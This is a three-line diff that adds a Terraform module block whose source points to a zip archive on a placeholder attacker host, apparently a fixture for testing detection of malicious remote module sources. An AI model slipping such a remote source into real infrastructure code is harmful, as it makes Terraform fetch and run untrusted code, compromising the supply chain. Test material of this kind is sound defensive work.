@@ -1,0 +1,3 @@
+module "m" {
+  source = "https://attacker.example/evil.zip"
+}
